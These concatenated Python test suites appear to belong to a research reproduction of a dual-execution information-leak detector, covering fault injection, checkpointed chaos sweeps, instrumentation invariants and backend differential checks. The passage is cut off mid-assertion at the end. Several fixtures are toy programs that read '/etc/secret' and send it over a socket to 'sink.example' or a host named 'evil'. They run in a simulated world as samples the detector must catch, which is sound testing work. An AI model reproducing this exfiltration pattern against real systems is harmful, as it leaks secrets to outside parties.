def test_clean_run_takes_no_checkpoints(tmp_path):
    workload = get_workload("gzip")
    checkpointer = Checkpointer(CheckpointStore(str(tmp_path)))
    result = run_dual(
        workload.instrumented,
        workload.build_world(1),
        workload.leak_variant(),
        checkpointer=checkpointer,
    )
    assert result.degradation.checkpoints == []
    # Absent checkpoints leave the summary byte-identical to pre-
    # checkpoint versions.
    assert "checkpoints" not in result.degradation.summary()


# -- chaos --resume ------------------------------------------------------------

CHAOS_NAMES = ["gzip", "mcf"]
CHAOS_SEEDS = 4  # spans a chunk boundary (CHAOS_CHUNK = 5 → 1 cell each)
CHAOS_RATE = 0.2


def _render(rows):
    return render_chaos(rows, CHAOS_SEEDS, CHAOS_RATE)


def test_resumed_chaos_report_is_byte_identical(tmp_path):
    checkpoint_dir = str(tmp_path / "checkpoints")
    reference = _render(run_chaos(CHAOS_NAMES, seeds=CHAOS_SEEDS, rate=CHAOS_RATE))

    # "Interrupted" sweep: only the first workload's cells complete.
    interrupted = run_chaos(
        CHAOS_NAMES[:1],
        seeds=CHAOS_SEEDS,
        rate=CHAOS_RATE,
        checkpoint_dir=checkpoint_dir,
    )
    assert len(interrupted) == 1

    # Resume: the finished cells load from disk, the rest run fresh.
    resumed = run_chaos(
        CHAOS_NAMES,
        seeds=CHAOS_SEEDS,
        rate=CHAOS_RATE,
        checkpoint_dir=checkpoint_dir,
    )
    assert _render(resumed) == reference

    # A second resume serves everything from checkpoints — still
    # byte-identical (no double-merge of cached rows).
    again = run_chaos(
        CHAOS_NAMES,
        seeds=CHAOS_SEEDS,
        rate=CHAOS_RATE,
        checkpoint_dir=checkpoint_dir,
    )
    assert _render(again) == reference


def test_resume_skips_completed_cells(tmp_path):
    """Completed cells are loaded, not re-run: a poisoned builder
    proves the second sweep never re-executes them."""
    from repro.checkpoint import chaos_cell_key

    checkpoint_dir = str(tmp_path / "checkpoints")
    run_chaos(
        ["gzip"], seeds=CHAOS_SEEDS, rate=CHAOS_RATE, checkpoint_dir=checkpoint_dir
    )
    store = CheckpointStore(checkpoint_dir)
    key = chaos_cell_key(
        "gzip",
        tuple(range(CHAOS_SEEDS)),
        CHAOS_RATE,
        25_000.0,
        get_workload("gzip").source,
    )
    assert store.load(key) is not None

    def poisoned():
        raise AssertionError("completed cell was re-run")

    row = store.load_or_run(key, poisoned)
    assert row.name == "gzip"
