"""Integration tests: fault injection, self-healing, and degradation.

End-to-end coverage of the robustness subsystem: the retry layer masks
injected faults without changing causality verdicts, exhausted retries
degrade gracefully, the supervisor converts engine errors into
diagnosed results, and the chaos harness's invariants hold on a small
sweep.
"""

import pytest

from repro.core import FaultConfig, LdxConfig, SinkSpec, SourceSpec, run_dual
from repro.core.engine import LdxEngine
from repro.core.supervisor import EngineWatchdog
from repro.errors import DegradedResult
from repro.eval.robustness import chaos_ok, run_chaos
from repro.instrument import instrument_module
from repro.ir import compile_source
from repro.vos.world import World

SECRET_SOURCE = SourceSpec(file_paths={"/etc/secret"})
NET_SINKS = SinkSpec.network_out()

CHATTY = """
fn main() {
  var fd = open("/etc/secret", "r");
  var x = parse_int(read(fd, 10));
  close(fd);
  var total = 0;
  var i = 0;
  while (i < 10) {
    var f = open("/etc/scratch", "w");
    write(f, "round " + i);
    close(f);
    var g = open("/etc/scratch", "r");
    total = total + len(read(g, 100));
    close(g);
    i = i + 1;
  }
  var s = socket();
  connect(s, "sink.example", 80);
  send(s, x * 2 + total);
}
"""


def build(source):
    return instrument_module(compile_source(source))


def world_with_secret(value="7"):
    world = World(seed=1)
    world.fs.add_file("/etc/secret", value)
    world.network.register("sink.example", 80, lambda req: "ack")
    return world


def dual(source, config, **kwargs):
    return run_dual(build(source), world_with_secret(), config, **kwargs)


# -- fault masking end to end -------------------------------------------------


def test_faults_masked_coupling_preserved():
    """At the default (masking) config, a heavy fault schedule changes
    timing but neither outputs nor the coupling of the dual."""
    faults = FaultConfig(seed=5, rate=0.5)
    result = dual(CHATTY, LdxConfig(SourceSpec(), NET_SINKS), faults=faults)
    degradation = result.degradation
    assert degradation.faults_injected, "rate 0.5 must inject on this workload"
    assert degradation.retries > 0
    assert degradation.faults_masked == len(degradation.faults_injected)
    assert degradation.verdict_confidence == "full"
    assert not degradation.degraded
    # The robustness invariant: unmutated dual stays fully coupled.
    assert not result.report.causality_detected
    assert result.report.syscall_diffs == 0
    assert result.report.tainted_resources == []
    assert result.master_stdout == result.slave_stdout
    result.raise_if_degraded()  # must not raise


def test_faults_do_not_mask_a_real_leak():
    faults = FaultConfig(seed=5, rate=0.5)
    result = dual(CHATTY, LdxConfig(SECRET_SOURCE, NET_SINKS), faults=faults)
    assert result.report.causality_detected
    assert result.degradation.verdict_confidence == "full"


def test_faults_charge_virtual_time():
    clean = dual(CHATTY, LdxConfig(SourceSpec(), NET_SINKS))
    faulted = dual(
        CHATTY,
        LdxConfig(SourceSpec(), NET_SINKS),
        faults=FaultConfig(seed=5, rate=0.5),
    )
    assert faulted.dual_time > clean.dual_time
    # Timing is the only difference: outputs agree with the clean run.
    assert faulted.master_stdout == clean.master_stdout


def test_fault_free_run_has_empty_degradation():
    result = dual(CHATTY, LdxConfig(SourceSpec(), NET_SINKS))
    degradation = result.degradation
    assert degradation.faults_injected == []
    assert degradation.retries == 0
    assert degradation.watchdog_fires == 0
    assert not degradation.degraded
    assert degradation.verdict_confidence == "full"


def test_fault_schedules_are_deterministic():
    faults = FaultConfig(seed=13, rate=0.4)
    first = dual(CHATTY, LdxConfig(SourceSpec(), NET_SINKS), faults=faults)
    second = dual(CHATTY, LdxConfig(SourceSpec(), NET_SINKS), faults=faults)
    assert (
        first.degradation.faults_injected == second.degradation.faults_injected
    )
    assert first.dual_time == second.dual_time


# -- retry exhaustion and the degradation ladder ------------------------------


def test_exhausted_retries_degrade_gracefully():
    """With bursts longer than the retry budget, faults surface as
    errno-style failures; the run completes and says so."""
    faults = FaultConfig(seed=3, rate=0.8, burst_max=5, max_retries=1)
    assert not faults.masks_all_faults
    result = dual(CHATTY, LdxConfig(SourceSpec(), NET_SINKS), faults=faults)
    degradation = result.degradation
    assert degradation.exhausted_syscalls
    assert degradation.verdict_confidence in ("degraded", "partial")
    assert degradation.degraded
    with pytest.raises(DegradedResult):
        result.raise_if_degraded()


def test_degradation_summary_mentions_confidence():
    faults = FaultConfig(seed=3, rate=0.8, burst_max=5, max_retries=1)
    result = dual(CHATTY, LdxConfig(SourceSpec(), NET_SINKS), faults=faults)
    text = result.degradation.summary()
    assert "confidence=" in text
    assert "faults injected" in text


# -- the supervisor -----------------------------------------------------------


def test_supervisor_converts_engine_error_to_result():
    """An uncaught error inside the drive loop becomes a diagnosed,
    degraded DualResult — never a traceback."""
    engine = LdxEngine(
        build(CHATTY), world_with_secret(), LdxConfig(SourceSpec(), NET_SINKS)
    )

    def boom():
        raise RuntimeError("synthetic engine wreck")

    engine._drive = boom
    result = engine.run()
    assert result.degradation.engine_failures == [
        "RuntimeError: synthetic engine wreck"
    ]
    assert result.degradation.verdict_confidence == "partial"
    assert result.degradation.degraded
    with pytest.raises(DegradedResult):
        result.raise_if_degraded()


def test_supervisor_passes_clean_runs_through():
    engine = LdxEngine(
        build(CHATTY), world_with_secret(), LdxConfig(SECRET_SOURCE, NET_SINKS)
    )
    result = engine.run()
    assert result.degradation.engine_failures == []
    assert result.report.causality_detected


# -- the watchdog -------------------------------------------------------------


def test_watchdog_escalates_only_without_progress():
    watchdog = EngineWatchdog(escalation_limit=2)
    assert not watchdog.record_stall_break("master", 1)
    assert not watchdog.record_stall_break("master", 1)
    watchdog.note_progress(("tick", 1))  # progress resets the ladder
    assert not watchdog.record_stall_break("master", 1)
    assert not watchdog.record_stall_break("master", 1)
    assert watchdog.record_stall_break("master", 1)
    assert watchdog.fires == 1


def test_watchdog_counts_threads_independently():
    watchdog = EngineWatchdog(escalation_limit=1)
    assert not watchdog.record_stall_break("master", 1)
    assert not watchdog.record_stall_break("slave", 1)
    assert not watchdog.record_stall_break("master", 2)
    assert watchdog.record_stall_break("master", 1)


def test_watchdog_round_backstop():
    watchdog = EngineWatchdog(max_rounds=3)
    assert not watchdog.exhausted()
    for _ in range(4):
        watchdog.record_stall_break("master", 1)
        watchdog.note_progress(object())  # progress does not reset rounds
    assert watchdog.exhausted()


# -- the chaos harness --------------------------------------------------------


def test_small_chaos_sweep_holds_invariants():
    rows = run_chaos(seeds=2, rate=0.1)
    assert chaos_ok(rows), [v for row in rows for v in row.violations]
    assert sum(row.faults_injected for row in rows) > 0


# -- the CLI ------------------------------------------------------------------


@pytest.fixture
def leaky_program(tmp_path):
    path = tmp_path / "leaky.mc"
    path.write_text(
        """
fn main() {
  var fd = open("/etc/secret", "r");
  var x = parse_int(read(fd, 8));
  close(fd);
  var s = socket();
  connect(s, "evil", 80);
  send(s, x * 3);
}
"""
    )
    return str(path)


LEAK_ARGS = [
    "--secret-file",
    "/etc/secret",
    "--file",
    "/etc/secret=7",
    "--endpoint",
    "evil:80=",
]


def test_cli_leak_with_faults(leaky_program, capsys):
    from repro.cli import main

    code = main(
        ["leak", leaky_program, *LEAK_ARGS, "--fault-rate", "0.4", "--fault-seed", "2"]
    )
    out = capsys.readouterr().out
    assert code == 1  # causality still detected under faults
    assert "CAUSALITY" in out
    assert "confidence=full" in out


def test_cli_leak_without_faults_prints_no_degradation(leaky_program, capsys):
    from repro.cli import main

    code = main(["leak", leaky_program, *LEAK_ARGS])
    out = capsys.readouterr().out
    assert code == 1
    assert "confidence=" not in out


def test_cli_chaos_subcommand(capsys):
    from repro.cli import main

    code = main(["chaos", "--seeds", "1", "--workload", "gzip"])
    out = capsys.readouterr().out
    assert code == 0
    assert "0 invariant violations" in out


def test_cli_engine_error_is_one_line_diagnosis(tmp_path, capsys):
    from repro.cli import main

    bad = tmp_path / "bad.mc"
    bad.write_text("fn main() { return undefined_variable; }\n")
    code = main(["run", str(bad)])
    captured = capsys.readouterr()
    assert code == 2
    assert captured.err.startswith("repro: ")
    assert "\n" == captured.err[-1] and captured.err.count("\n") == 1
    assert "Traceback" not in captured.err
