"""Property-based tests of the counter instrumentation invariants.

Random structured programs are generated (nested if/while with
syscalls sprinkled in), then the paper's core invariants are checked:

* all paths arriving at a node carry the same counter value;
* an unmutated dual execution is perfectly coupled (no differences);
* runtime counters never exceed the static maximum (loop resets bound
  them);
* instrumentation never changes program behaviour.
"""

import random

from hypothesis import given, settings, strategies as st

from repro.baselines.native import run_native
from repro.core import LdxConfig, SinkSpec, SourceSpec, run_dual
from repro.instrument import CounterAdd, instrument_module
from repro.ir import compile_source
from repro.ir import instructions as ins
from repro.vos.world import World

# -- random structured program generation ----------------------------------


def _gen_block(draw, depth: int, loop_depth: int, fresh) -> str:
    statements = draw(st.integers(1, 3))
    parts = []
    for _ in range(statements):
        parts.append(_gen_statement(draw, depth, loop_depth, fresh))
    return "\n".join(parts)


def _gen_statement(draw, depth: int, loop_depth: int, fresh) -> str:
    choices = ["assign", "print", "print2"]
    if depth < 3:
        choices += ["if", "ifelse"]
        if loop_depth < 2:
            choices.append("while")
    kind = draw(st.sampled_from(choices))
    if kind == "assign":
        value = draw(st.integers(0, 9))
        return f"x = x + {value};"
    if kind == "print":
        return "print(x);"
    if kind == "print2":
        return 'print("m");\nprint(x + 1);'
    if kind == "if":
        threshold = draw(st.integers(0, 20))
        body = _gen_block(draw, depth + 1, loop_depth, fresh)
        return f"if (x > {threshold}) {{\n{body}\n}}"
    if kind == "ifelse":
        then_body = _gen_block(draw, depth + 1, loop_depth, fresh)
        else_body = _gen_block(draw, depth + 1, loop_depth, fresh)
        return (
            f"if (x % 2 == {draw(st.integers(0, 1))}) {{\n{then_body}\n}} "
            f"else {{\n{else_body}\n}}"
        )
    # while (loop variables get globally unique names)
    trips = draw(st.integers(1, 3))
    body = _gen_block(draw, depth + 1, loop_depth + 1, fresh)
    fresh[0] += 1
    loop_var = f"i{fresh[0]}"
    return (
        f"var {loop_var} = 0;\n"
        f"while ({loop_var} < {trips}) {{\n{body}\n{loop_var} = {loop_var} + 1;\n}}"
    )


@st.composite
def random_programs(draw):
    seed_value = draw(st.integers(0, 99))
    fresh = [0]
    body = _gen_block(draw, 0, 0, fresh)
    return (
        "fn main() {\n"
        f"  var x = {seed_value};\n"
        f"{body}\n"
        "  print(x);\n"
        "}\n"
    )


# -- properties --------------------------------------------------------------


@given(random_programs())
@settings(max_examples=40, deadline=None)
def test_instrumentation_preserves_behaviour(source):
    module = compile_source(source)
    plain = run_native(module, World(seed=1))
    instrumented = instrument_module(module)
    traced = run_native(module, World(seed=1), plan=instrumented.plan)
    assert plain.stdout == traced.stdout


@given(random_programs())
@settings(max_examples=40, deadline=None)
def test_unmutated_dual_execution_is_perfectly_coupled(source):
    instrumented = instrument_module(compile_source(source))
    config = LdxConfig(sources=SourceSpec(), sinks=SinkSpec(syscall_names=()))
    result = run_dual(instrumented, World(seed=1), config)
    assert not result.report.causality_detected
    assert result.report.syscall_diffs == 0
    assert result.report.stall_breaks == 0
    assert result.master_stdout == result.slave_stdout


@given(random_programs())
@settings(max_examples=40, deadline=None)
def test_runtime_counters_bounded_by_static_maximum(source):
    instrumented = instrument_module(compile_source(source))
    config = LdxConfig(sources=SourceSpec(), sinks=SinkSpec(syscall_names=()))
    result = run_dual(instrumented, World(seed=1), config)
    static_max = instrumented.plan.max_static_counter
    assert result.master.stats.max_counter <= static_max
    assert result.slave.stats.max_counter <= static_max


@given(random_programs(), st.integers(0, 10_000))
@settings(max_examples=40, deadline=None)
def test_all_paths_reach_nodes_with_static_counter(source, walk_seed):
    """Random concrete walks respect counter_at (Algorithm 1's claim:
    the counter equals the static value at every node on every path)."""
    instrumented = instrument_module(compile_source(source))
    function = instrumented.module.functions["main"]
    plan = instrumented.plan.functions["main"]
    rng = random.Random(walk_seed)
    cnt = 0
    node = function.entry
    for _ in range(3000):
        instr = function.instrs[node]
        if isinstance(instr, ins.CallDirect) and node not in plan.scoped_calls:
            cnt += instrumented.plan.fcnt.get(instr.func, 0)
        succs = function.successors(node)
        if not succs:
            break
        dst = succs[rng.randrange(len(succs))]
        for action in plan.actions_for(node, dst) or []:
            if isinstance(action, CounterAdd):
                cnt += action.delta
        if dst in plan.counter_at:
            assert cnt == plan.counter_at[dst]
        node = dst
