"""Property-based tests of the fault-masking invariant.

Random structured, syscall-heavy programs are generated (nested
if/while around file reads, writes, and socket traffic), then dual
executed with no mutation under arbitrary transient-fault schedules.
At any masking configuration (retry budget >= burst bound, the
default), injected faults must change timing only:

* the dual stays perfectly coupled — zero detections, zero syscall
  diffs, zero tainted resources;
* master and slave outputs agree with each other *and* with a
  fault-free run of the same program;
* the degradation report accounts for every fault and keeps full
  verdict confidence.
"""

from hypothesis import given, settings, strategies as st

from repro.core import FaultConfig, LdxConfig, SinkSpec, SourceSpec, run_dual
from repro.instrument import instrument_module
from repro.ir import compile_source
from repro.vos.world import World

# -- random syscall-heavy program generation ---------------------------------


def _gen_block(draw, depth: int, loop_depth: int, fresh) -> str:
    statements = draw(st.integers(1, 3))
    return "\n".join(
        _gen_statement(draw, depth, loop_depth, fresh) for _ in range(statements)
    )


def _gen_statement(draw, depth: int, loop_depth: int, fresh) -> str:
    choices = ["assign", "read", "readline", "write", "send", "recv", "print"]
    if depth < 2:
        choices += ["if", "ifelse"]
        if loop_depth < 2:
            choices.append("while")
    kind = draw(st.sampled_from(choices))
    if kind == "assign":
        return f"x = x + {draw(st.integers(0, 9))};"
    if kind == "read":
        # Reads past EOF return "": len() keeps the program total-safe.
        return f"x = x + len(read(fd, {draw(st.integers(1, 12))}));"
    if kind == "readline":
        return "x = x + len(read_line(fd));"
    if kind == "write":
        return 'write(out, "w" + x);'
    if kind == "send":
        return "send(sock, x);"
    if kind == "recv":
        return f"x = x + len(recv(sock, {draw(st.integers(1, 8))}));"
    if kind == "print":
        return "print(x);"
    if kind == "if":
        body = _gen_block(draw, depth + 1, loop_depth, fresh)
        return f"if (x > {draw(st.integers(0, 30))}) {{\n{body}\n}}"
    if kind == "ifelse":
        then_body = _gen_block(draw, depth + 1, loop_depth, fresh)
        else_body = _gen_block(draw, depth + 1, loop_depth, fresh)
        return (
            f"if (x % 2 == {draw(st.integers(0, 1))}) {{\n{then_body}\n}} "
            f"else {{\n{else_body}\n}}"
        )
    trips = draw(st.integers(1, 3))
    body = _gen_block(draw, depth + 1, loop_depth + 1, fresh)
    fresh[0] += 1
    loop_var = f"i{fresh[0]}"
    return (
        f"var {loop_var} = 0;\n"
        f"while ({loop_var} < {trips}) {{\n{body}\n{loop_var} = {loop_var} + 1;\n}}"
    )


@st.composite
def syscall_programs(draw):
    fresh = [0]
    body = _gen_block(draw, 0, 0, fresh)
    return (
        "fn main() {\n"
        f"  var x = {draw(st.integers(0, 20))};\n"
        '  var fd = open("/data/in", "r");\n'
        '  var out = open("/data/out", "w");\n'
        "  var sock = socket();\n"
        '  connect(sock, "srv", 80);\n'
        f"{body}\n"
        "  send(sock, x);\n"
        "  print(x);\n"
        "}\n"
    )


def make_world():
    world = World(seed=1)
    world.fs.add_file("/data/in", "line one\nline two\nline three\n")
    world.network.register("srv", 80, lambda req: f"ok:{len(req)}")
    return world


UNMUTATED = LdxConfig(sources=SourceSpec(), sinks=SinkSpec.network_out())


# -- the property ------------------------------------------------------------


@given(
    syscall_programs(),
    st.integers(0, 10_000),
    st.floats(0.0, 0.5, allow_nan=False),
)
@settings(max_examples=40, deadline=None)
def test_transient_faults_never_change_outcomes(source, fault_seed, rate):
    instrumented = instrument_module(compile_source(source))
    baseline = run_dual(instrumented, make_world(), UNMUTATED)
    assert baseline.report.crashes == []

    faults = FaultConfig(seed=fault_seed, rate=rate)
    assert faults.masks_all_faults
    result = run_dual(instrumented, make_world(), UNMUTATED, faults=faults)
    degradation = result.degradation

    # Fully coupled: zero tainted sinks, zero divergence of any kind.
    assert not result.report.causality_detected
    assert result.report.tainted_sinks == 0
    assert result.report.syscall_diffs == 0
    assert result.report.tainted_resources == []
    assert result.report.crashes == []

    # Outputs agree across the dual and with the fault-free baseline.
    assert result.master_stdout == result.slave_stdout
    assert result.master_stdout == baseline.master_stdout

    # Degradation accounting: all faults masked, full confidence.
    assert degradation.exhausted_syscalls == []
    assert degradation.faults_masked == len(degradation.faults_injected)
    assert degradation.verdict_confidence == "full"
    result.raise_if_degraded()  # must not raise


@given(syscall_programs(), st.integers(0, 10_000))
@settings(max_examples=20, deadline=None)
def test_fault_timing_cost_is_nonnegative(source, fault_seed):
    """Retries and backoff only ever add virtual time."""
    instrumented = instrument_module(compile_source(source))
    baseline = run_dual(instrumented, make_world(), UNMUTATED)
    faulted = run_dual(
        instrumented,
        make_world(),
        UNMUTATED,
        faults=FaultConfig(seed=fault_seed, rate=0.3),
    )
    assert faulted.dual_time >= baseline.dual_time
