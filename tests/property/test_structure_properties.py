"""Property-based tests for the supporting data structures."""

from hypothesis import example, given, settings, strategies as st

from repro.cfg.dominators import compute_dominators
from repro.cfg.graph import Digraph
from repro.core.channel import counter_geq, counter_less
from repro.core.mutation import (
    bit_flip,
    global_off_by_one,
    off_by_minus_one,
    off_by_one,
    zeroing,
)
from repro.ir.ops import apply_binop, apply_unop, stringify, truthy
from repro.vos.filesystem import VirtualFS

counters = st.lists(st.integers(0, 6), min_size=1, max_size=4).map(tuple)


@given(counters, counters)
def test_counter_order_is_total(a, b):
    assert counter_less(a, b) or counter_less(b, a) or a == b


@given(counters, counters)
def test_counter_order_is_antisymmetric(a, b):
    assert not (counter_less(a, b) and counter_less(b, a))


@given(counters, counters, counters)
def test_counter_order_is_transitive(a, b, c):
    if counter_less(a, b) and counter_less(b, c):
        assert counter_less(a, c)


@given(counters)
def test_infinity_is_greatest(a):
    assert counter_less(a, None)
    assert not counter_less(None, a)
    assert counter_geq(None, a)


# -- dominators vs brute force -------------------------------------------------


@st.composite
def small_digraphs(draw):
    node_count = draw(st.integers(2, 7))
    graph = Digraph(range(node_count))
    edge_count = draw(st.integers(1, node_count * 2))
    for _ in range(edge_count):
        src = draw(st.integers(0, node_count - 1))
        dst = draw(st.integers(0, node_count - 1))
        if src != dst:
            graph.add_edge(src, dst)
    return graph


def _paths_avoiding(graph, start, target, avoid):
    """Is target reachable from start without passing through avoid?"""
    seen = set()
    stack = [start]
    while stack:
        node = stack.pop()
        if node == avoid or node in seen:
            continue
        if node == target:
            return True
        seen.add(node)
        stack.extend(graph.succs(node))
    return False


@given(small_digraphs())
@settings(max_examples=60, deadline=None)
def test_dominators_match_brute_force(graph):
    entry = 0
    dominators = compute_dominators(graph, entry)
    reachable = graph.reachable_from(entry)
    for node in reachable:
        for candidate in reachable:
            brute = candidate == node or not _paths_avoiding(
                graph, entry, node, candidate
            )
            assert (candidate in dominators[node]) == brute


# -- mutation strategies -------------------------------------------------------


mutable_values = st.one_of(
    st.integers(-1000, 1000),
    st.text(min_size=0, max_size=20),
    st.booleans(),
    st.lists(st.integers(0, 100), max_size=4),
)


@given(mutable_values)
def test_mutations_preserve_type(value):
    for mutate in (off_by_one, off_by_minus_one, zeroing, bit_flip, global_off_by_one):
        mutated = mutate(value)
        assert type(mutated) is type(value)


@given(st.text(alphabet=st.characters(whitelist_categories=("Ll", "Lu", "Nd")),
               min_size=1, max_size=20))
def test_off_by_one_changes_alnum_strings(value):
    assert off_by_one(value) != value


@given(st.text(min_size=0, max_size=20))
def test_off_by_one_preserves_length(value):
    assert len(off_by_one(value)) == len(value)


@given(st.text(min_size=1, max_size=20))
@example("🄰")  # isupper() but not isalnum(): must pass through unshifted
def test_global_off_by_one_keeps_non_alnum_chars(value):
    mutated = global_off_by_one(value)
    for original, shifted in zip(value, mutated):
        if not original.isalnum():
            assert original == shifted


# -- operator semantics -----------------------------------------------------------


@given(st.integers(-10**6, 10**6), st.integers(-10**6, 10**6))
def test_comparison_trichotomy(a, b):
    assert (
        apply_binop("<", a, b)
        or apply_binop(">", a, b)
        or apply_binop("==", a, b)
    )


@given(st.integers(-10**6, 10**6), st.integers(1, 1000))
def test_c_division_identity(a, b):
    quotient = apply_binop("/", a, b)
    remainder = apply_binop("%", a, b)
    assert quotient * b + remainder == a
    assert abs(remainder) < b


@given(st.integers(-100, 100))
def test_unary_minus_involution(a):
    assert apply_unop("-", apply_unop("-", a)) == a


@given(mutable_values)
def test_stringify_total(value):
    assert isinstance(stringify(value), str)
    truthy(value)  # must not raise


# -- filesystem clone isolation -----------------------------------------------


path_segments = st.lists(
    st.text(alphabet="abcd", min_size=1, max_size=3), min_size=1, max_size=3
)


@given(
    st.lists(st.tuples(path_segments, st.text(max_size=8)), min_size=1, max_size=5)
)
def test_fs_clone_isolated_under_random_writes(files):
    fs = VirtualFS()
    for segments, content in files:
        fs.add_file("/" + "/".join(segments), content)
    snapshot = {path: fs.file(path).content for path in fs.paths()}
    clone = fs.clone()
    for path in clone.paths():
        clone.file(path).content += "!"
        clone.rename(path, path + ".bak")
    assert {p: fs.file(p).content for p in fs.paths()} == snapshot
