"""Differential property tests: switch vs threaded backend.

The threaded-code backend is a pure dispatch optimisation — every
observable of an execution must be bit-identical to the switch
interpreter's: stdout, virtual clocks, instruction/edge-action/syscall
counts, counter stacks, dual-execution verdicts.  These properties
drive both backends over the same random structured programs (reusing
the generators from the counter and fault-tolerance suites), including
under instrumentation, injected transient faults, and thread
interleavings, and assert exact equality.
"""

from hypothesis import given, settings, strategies as st

from repro.baselines.native import run_native
from repro.core import FaultConfig, LdxConfig, SinkSpec, SourceSpec, run_dual
from repro.instrument import instrument_module
from repro.interp import relevance_enabled, set_relevance_enabled
from repro.ir import compile_source
from repro.vos.world import World

from tests.property.test_counter_properties import random_programs
from tests.property.test_fault_tolerance import (
    UNMUTATED,
    make_world,
    syscall_programs,
)


def _stats_tuple(stats):
    return (
        stats.instructions,
        stats.edge_actions,
        stats.syscalls,
        stats.barriers,
        stats.max_counter,
        stats.counter_samples,
        stats.max_stack_depth,
    )


def _native_observables(result):
    return (
        result.stdout,
        result.exit_code,
        result.time,
        result.output_log,
        _stats_tuple(result.stats),
    )


def _dual_observables(result):
    return (
        result.report.causality_detected,
        result.report.syscall_diffs,
        result.report.stall_breaks,
        result.report.tainted_sinks,
        sorted(result.report.tainted_resources),
        result.master_stdout,
        result.slave_stdout,
        result.master.time,
        result.slave.time,
        _stats_tuple(result.master.stats),
        _stats_tuple(result.slave.stats),
    )


@given(random_programs(), st.booleans())
@settings(max_examples=40, deadline=None)
def test_native_runs_identical_across_backends(source, instrumented):
    module = compile_source(source)
    plan = instrument_module(module).plan if instrumented else None
    switch = run_native(module, World(seed=1), plan=plan, backend="switch")
    threaded = run_native(module, World(seed=1), plan=plan, backend="threaded")
    assert _native_observables(switch) == _native_observables(threaded)


@given(random_programs())
@settings(max_examples=30, deadline=None)
def test_dual_execution_identical_across_backends(source):
    instrumented = instrument_module(compile_source(source))
    config = LdxConfig(sources=SourceSpec(), sinks=SinkSpec(syscall_names=()))
    results = []
    for backend in ("switch", "threaded"):
        config.interp_backend = backend
        results.append(run_dual(instrumented, World(seed=1), config))
    assert _dual_observables(results[0]) == _dual_observables(results[1])


@given(syscall_programs(), st.integers(0, 10_000), st.floats(0.0, 0.5, allow_nan=False))
@settings(max_examples=25, deadline=None)
def test_faulty_duals_identical_across_backends(source, fault_seed, rate):
    instrumented = instrument_module(compile_source(source))
    faults = FaultConfig(seed=fault_seed, rate=rate)
    results = []
    for backend in ("switch", "threaded"):
        config = LdxConfig(
            sources=SourceSpec(),
            sinks=SinkSpec.network_out(),
            interp_backend=backend,
        )
        results.append(run_dual(instrumented, make_world(), config, faults=faults))
    assert _dual_observables(results[0]) == _dual_observables(results[1])
    assert (
        results[0].degradation.faults_injected
        == results[1].degradation.faults_injected
    )


@given(st.integers(0, 10_000), st.integers(2, 4))
@settings(max_examples=25, deadline=None)
def test_thread_interleavings_identical_across_backends(seed, workers):
    # Racy global increments: the interleaving is schedule-seed driven,
    # so identical seeds must produce identical races on both backends.
    source = (
        "var shared = 0;\n"
        "fn worker(n) {\n"
        "  var j = 0;\n"
        "  while (j < n) { shared = shared + 1; j = j + 1; }\n"
        "  return shared;\n"
        "}\n"
        "fn main() {\n"
        "  var handles = [];\n"
        f"  var k = 0;\n"
        f"  while (k < {workers}) {{\n"
        "    push(handles, thread_spawn(worker, 5 + k));\n"
        "    k = k + 1;\n"
        "  }\n"
        "  var m = 0;\n"
        f"  while (m < {workers}) {{\n"
        "    print(thread_join(handles[m]));\n"
        "    m = m + 1;\n"
        "  }\n"
        "  print(shared);\n"
        "}\n"
    )
    module = compile_source(source)
    switch = run_native(module, World(seed=1), seed=seed, backend="switch")
    threaded = run_native(module, World(seed=1), seed=seed, backend="threaded")
    assert _native_observables(switch) == _native_observables(threaded)


@given(random_programs())
@settings(max_examples=30, deadline=None)
def test_relevance_toggle_identical_native(source):
    # The sink-relevance optimisation (counter elision + widened
    # fusion) is byte-invisible: toggling it may change how the
    # threaded backend executes, never what it observes.
    module = compile_source(source)
    plan = instrument_module(module).plan
    saved = relevance_enabled()
    try:
        set_relevance_enabled(True)
        on = run_native(module, World(seed=1), plan=plan, backend="threaded")
        set_relevance_enabled(False)
        off = run_native(module, World(seed=1), plan=plan, backend="threaded")
    finally:
        set_relevance_enabled(saved)
    assert _native_observables(on) == _native_observables(off)


@given(random_programs())
@settings(max_examples=20, deadline=None)
def test_relevance_toggle_identical_dual(source):
    instrumented = instrument_module(compile_source(source))
    config = LdxConfig(
        sources=SourceSpec(),
        sinks=SinkSpec(syscall_names=()),
        interp_backend="threaded",
    )
    saved = relevance_enabled()
    results = []
    try:
        for enabled in (True, False):
            set_relevance_enabled(enabled)
            results.append(run_dual(instrumented, World(seed=1), config))
    finally:
        set_relevance_enabled(saved)
    assert _dual_observables(results[0]) == _dual_observables(results[1])
