"""Differential suite: pruned vs unpruned instrumentation plans.

Instrumentation-time pruning drops CounterAdd actions from edges whose
counter deltas the sink-relevance pass proves can never reach an
observable (``FunctionRelevance.prunable_edges``), replacing them with
ElidedAdd ghosts that preserve the virtual clock and the edge-action
count.  The contract is byte identity: events, counter stacks, stats
and dual-execution verdicts must be indistinguishable between a pruned
and an unpruned plan — on the reference switch interpreter (this file
pins all 28 registry workloads to it) and under injected faults
(hypothesis toggle tests at the bottom).
"""

import pytest
from hypothesis import given, settings, strategies as st

from repro.baselines.native import run_native
from repro.core import FaultConfig, LdxConfig, SinkSpec, SourceSpec, run_dual
from repro.instrument import instrument_module
from repro.ir import compile_source
from repro.vos.world import World
from repro.workloads import ALL_WORKLOADS

from tests.property.test_backend_differential import (
    _dual_observables,
    _native_observables,
)
from tests.property.test_counter_properties import random_programs
from tests.property.test_fault_tolerance import make_world, syscall_programs


def _plans(source):
    """(full, pruned) instrumentation artifacts for one source."""
    full = instrument_module(compile_source(source), prune=False)
    pruned = instrument_module(compile_source(source), prune=True)
    return full, pruned


@pytest.mark.parametrize("workload", ALL_WORKLOADS, ids=lambda w: w.name)
def test_pruned_plan_identical_on_switch(workload):
    """Native switch runs observe nothing of the pruning."""
    full, pruned = _plans(workload.source)
    observed = []
    for artifact in (full, pruned):
        result = run_native(
            artifact.module,
            workload.build_world(1),
            plan=artifact.plan,
            backend="switch",
        )
        observed.append(_native_observables(result))
    assert observed[0] == observed[1], (
        f"{workload.name}: pruning changed switch-backend observables"
    )


@pytest.mark.parametrize("workload", ALL_WORKLOADS, ids=lambda w: w.name)
def test_pruned_plan_identical_verdicts_on_switch(workload):
    """Dual-execution verdicts match between pruned and unpruned plans."""
    full, pruned = _plans(workload.source)
    config = workload.config()
    config.interp_backend = "switch"
    observed = []
    for artifact in (full, pruned):
        result = run_dual(artifact, workload.build_world(1), config)
        observed.append(_dual_observables(result))
    assert observed[0] == observed[1], (
